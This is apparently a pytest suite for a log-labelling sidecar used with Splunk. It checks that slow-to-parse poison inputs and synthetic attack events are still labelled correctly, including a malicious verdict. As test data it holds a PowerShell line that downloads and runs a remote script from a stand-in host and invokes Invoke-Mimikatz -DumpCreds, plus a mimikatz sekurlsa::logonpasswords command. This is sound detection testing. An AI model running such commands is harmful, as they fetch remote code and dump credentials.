"""Lines that once took seconds each, against the real sidecar with the shipped model: no other event pays for them."""

import json
import time

import pytest

from tests.splunk.fake_splunkd_rest import event
from tests.splunk.modinput.input_process import definition, finish, start
from tests.splunk.sample_rows import rows_of
from tests.splunk.splunkd import warnings

pytest.importorskip("starlette")  # not installed for Splunk's own Pythons

from loglm_bridge.model import default_folder
from tests.sidecar.process import Process
from tests.telemetry.hostile_events import EVENTS

#: Each of these took 0.3 to 15 seconds, at one or at 64 kB.
POISON = [
    "[**] [1:1:1]" + " " * 1_000 + "x",
    '"a": ' + " " * 60_000 + "x",
    f"<Event><System><Provider {'a' * 60_000}/>",
    EVENTS["open CDATA"],
    EVENTS["chain of JSON"],
    EVENTS["quotes across tags"],
]
MIMIKATZ = (
    "powershell.exe -c IEX (New-Object Net.WebClient).DownloadString('http://x/m.ps1'); Invoke-Mimikatz -DumpCreds"
)


def attack(number):
    """Return an event that the shipped model calls malicious."""
    fields = {"EventID": 4688, "NewProcessName": "C:\\x\\mimikatz.exe", "Computer": f"ws{number}"}
    return json.dumps({**fields, "CommandLine": f"mimikatz.exe sekurlsa::logonpasswords exit {MIMIKATZ}"})


def good(number):
    """Return an ordinary line."""
    return (
        f"Mar  2 08:28:50 web{number % 9} sshd[{number}]: Accepted publickey for ada from 192.0.2.7 port {number} ssh2"
    )


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    """A sidecar with the shipped model."""
    folder = str(default_folder())
    process = Process(tmp_path_factory.mktemp("real"), "--model", folder, module="tests.sidecar.real").ready(60)
    yield process
    assert process.stop() == 0
    process.close()


def counts(real):
    """Return how many calls hung or failed, and how often the model was loaded again."""
    metrics = real.metrics()
    names = ("loglm_inference_hung_total", "loglm_inference_failed_total", "loglm_model_restarts_total")
    return [metrics[name] for name in names]


def test_a_search_loses_no_label(real, app_at, search):
    rows = [POISON[0] + "y" * (i % 7) if i % 44 == 0 else good(i) for i in range(10_000)]
    assert sum(row.startswith("[**]") for row in rows) == 228
    command = search(app_at(real.port, token=real.token))
    command.getinfo()
    metadata, answered = command.execute(rows_of(*rows))
    assert {row["loglm_status"] for row in answered if "sshd" in row["_raw"]} == {"ok"}
    assert {row["loglm_status"] for row in answered} <= {"ok", "unparsed"}
    assert len(answered) == 10_000
    assert all("unparsed" in text for text in warnings(metadata))
    assert counts(real) == [0, 0, 0]


@pytest.mark.parametrize("poisons", [8, 40, 226])
def test_neighbours_in_a_batch_and_other_requests_are_answered(real, poisons):
    texts = [POISON[i % len(POISON)] + str(i) for i in range(poisons)]
    started = time.monotonic()
    results = real.label(*texts, *(good(i) for i in range(20)))
    assert {result["status"] for result in results[poisons:]} == {"ok"}
    assert {result["status"] for result in results} <= {"ok", "unparsed"}
    assert time.monotonic() - started < 30
    assert real.label(good(1))[0]["status"] == "ok"
    assert counts(real) == [0, 0, 0]


def test_attack_with_open_sections_behind_it_is_labelled_as_without(real):
    xml = (
        "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData>"
        f"<Data Name='Image'>C:\\x\\mimikatz.exe</Data><Data Name='CommandLine'>{MIMIKATZ}</Data>"
    )
    plain, padded = real.label(xml, xml + "<![CDATA[" * 7_000)
    assert plain["verdict"] == padded["verdict"] == "malicious"
    assert plain["score"] == padded["score"]


@pytest.mark.timeout(300)
def test_the_input_delivers_every_notable(real, splunkd, write_back_app, splunk_env, tmp_path):
    begin = int(time.time()) - 3_000
    splunkd.events = [
        event(begin + number, text)
        for number in range(470)
        for text in [POISON[0] + str(number) if number < 150 else attack(number)]
    ]
    app = write_back_app(real.port, token=real.token)
    params = {"search": "index=main", "lag": 10, "window": 300, "lookback": 3_200, "max_events": 100_000}
    result = finish(start(app, splunk_env), definition(splunkd.uri, tmp_path / "positions", params), 200)
    attacks = [text for _, text in result.events if "4688" in text]
    assert (result.code, len(attacks), len(set(result.keys))) == (0, 320, len(result.keys))
    assert counts(real) == [0, 0, 0]
